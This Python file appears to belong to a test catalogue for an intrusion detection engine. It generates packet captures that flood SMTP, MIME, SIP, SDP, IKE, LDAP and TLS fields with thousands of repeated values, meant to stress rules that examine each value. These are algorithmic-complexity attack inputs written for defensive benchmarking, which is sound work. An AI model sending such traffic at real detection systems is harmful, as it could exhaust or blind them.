# SPDX-License-Identifier: GPL-2.0-or-later
"""Attacks on keywords that have several values in a message: rules ask for each of them, and a
sender decides how many there are."""
from attacks_crypto import (LDAP_ORDINARY, LDAP_PRESENT, handshake, hello, ike, ldap_message,
                            proposals, u16)
from attacks_mail import dialogue, envelope, mails, sip, smtp
from catalogue import ber, ber_int, connect, entry, host, one_segment, rounds

SOURCE = "Crosby and Wallach 2003; values that rules ask for one by one"
LONG = 60000            # bytes: a datagram of many fragments


def asks(proto, keywords):
    """Two rules for each keyword: one that a pattern finds, one that is always evaluated."""
    tests = 'content:"nowhere at all"', 'pcre:"/nowhere at all/"'
    return "".join(f"alert {proto} any any -> any any ({keyword}; {test}; sid:{2 * i + j + 1};)\n"
                   for i, keyword in enumerate(keywords) for j, test in enumerate(tests))


SMTP_RULES = asks("smtp", ["smtp.rcpt_to", "email.url", "email.received", "email.subject"])
SIP_RULES = asks("sip", ["sip.via", "sip.from", "sdp.attribute", "sdp.media.media"])
LDAP_RULES = asks("ldap", ["ldap.request.attribute_type", "ldap.responses.attribute_type",
                           "ldap.responses.dn", "ldap.responses.message"])


def datagrams(port, hostile, ordinary, count):
    def make(cap, size):
        for i in rounds(cap, size, count):
            cap.udp(host(i % 100), port, "192.168.0.1", port, hostile if size is None else
                    ordinary(i))
    return make


def value_entry(name, what, make, **options):
    make.__name__ = "values_" + name
    entry(what, SOURCE, **options)(make)


def recipients(cap, size):
    if size is not None:
        mails(cap, size)
        return
    flow = smtp(cap)
    flow.to_server(b"MAIL FROM:<a@example.com>\r\n")
    flow.to_client(b"250 ok\r\n")
    for _ in range(300):
        one_segment(flow, 0, b"RCPT TO:<b>\r\n" * 100)
        one_segment(flow, 1, b"250 ok\r\n" * 100)


value_entry("recipients", "SMTP: recipients without end, in rules and in the log",
            recipients, rules=SMTP_RULES, proto="smtp", short=True)


LINES = b"a line of text\r\n" * 20000


def mail_of(head, body):
    def make(cap, size):
        if size is not None:
            mails(cap, size)
            return
        flow = smtp(cap)
        envelope(flow)
        one_segment(flow, 0, head)
        for at in range(0, len(body), 100):
            flow.data(0, body[at:at + 100])
        one_segment(flow, 0, b"\r\n.\r\n")
    return make


value_entry("received", "MIME: a rule on the Received fields of a mail that has thousands",
            mail_of(b"Received: by somebody\r\n" * 20000 + b"\r\n", LINES),
            rules=SMTP_RULES, proto="smtp", short=True)
value_entry("urls", "MIME: a rule on the URLs of a mail that has thousands", mail_of(
    b"Subject: a\r\n\r\n", b"http://a/ " * 80000), rules=SMTP_RULES, proto="smtp", short=True)

value_entry("sip_headers", "SIP: a rule on the Via headers of a message that has thousands",
            datagrams(5060, sip(b"v:\r\n" * (LONG // 4)),
                      lambda i: sip(b"Contact: <sip:a@a>\r\n", i), 14),
    rules=SIP_RULES, proto="sip", short=True)
SDP = b"v=0\r\no=a 1 1 IN IP4 a\r\ns=a\r\nt=0 0\r\n"


def sip_body(body, i=0):
    return sip(b"Content-Type: application/sdp\r\nContent-Length: %d\r\n" % len(body), i) + body


def described(i):
    return sip_body(SDP, i)


value_entry("sdp_attributes", "SIP: a rule on the attributes of a description that has thousands",
            datagrams(5060, sip_body(SDP + b"a=a\r\n" * (LONG // 5)), described, 14),
            rules=SIP_RULES, proto="sip", short=True)
value_entry("sdp_media", "SIP: a rule on the media of a description that has thousands",
            datagrams(5060, sip_body(SDP + b"m=a 1 a 0\r\n" * (LONG // 11)), described, 14),
            rules=SIP_RULES, proto="sip")
value_entry("ike_vendors", "IKE: a rule on the vendor ids of a message that has thousands",
            datagrams(500, ike(1, 43, b"\x2b\0\0\5v" * (LONG // 5) + b"\0\0\0\4"),
                      lambda i: ike(i, 33, proposals(1)), 14),
            rules=asks("ike", ["ike.vendor"]), proto="ike", short=True)


def searched(names):
    return ber(0x63, ber(4, b"dc=a"), ber(10, b"\2"), ber(10, b"\0"), ber_int(0), ber_int(0),
               ber(1, b"\0"), LDAP_PRESENT, ber(0x30, names))





def conversation(port, hostile, ordinary):
    return lambda cap, size: dialogue(cap, size, port, [], hostile, ordinary)


SEARCHES = [*LDAP_ORDINARY,
            *((0, ldap_message(i, searched(b"\4\0" * (LONG // 2)))) for i in range(2, 14))]
value_entry("ldap_searched", "LDAP: a rule on the attributes of a search that has thousands",
            conversation(389, SEARCHES, LDAP_ORDINARY), rules=LDAP_RULES, proto="ldap", short=True)
ENTRY = ber(0x64, ber(4, b"dc=a"), ber(0x30, ber(0x30, ber(4, b"a"), ber(0x31)) * 3000))
value_entry("ldap_attributes", "LDAP: a rule on the attributes of entries that have thousands",
            conversation(389, [LDAP_ORDINARY[0], *((1, ldap_message(1, ENTRY)) for i in range(30))],
                         LDAP_ORDINARY), rules=LDAP_RULES, proto="ldap", short=True)
value_entry("ldap_answers", "LDAP: a rule on answers that come one by one", conversation(
    389, [LDAP_ORDINARY[0], *((1, ldap_message(1, ber(0x64, ber(4, b"dc=a"), ber(0x30))))
                              for i in range(1000))] * 5,
    LDAP_ORDINARY), rules=LDAP_RULES, proto="ldap", short=True)


def alpn(cap, size):
    names = u16(b"\1a" * (7900 if size is None else 1))
    for i in rounds(cap, size, 50):
        one_segment(connect(cap, 443, i), 0, b"\x16\3\1" + u16(handshake(1, hello(
            b"\0\x10" + u16(names)))))


value_entry("alpn", "TLS: a rule on the ALPN names of a hello that has thousands", alpn,
            rules=asks("tls", ["tls.alpn"]), proto="tls")
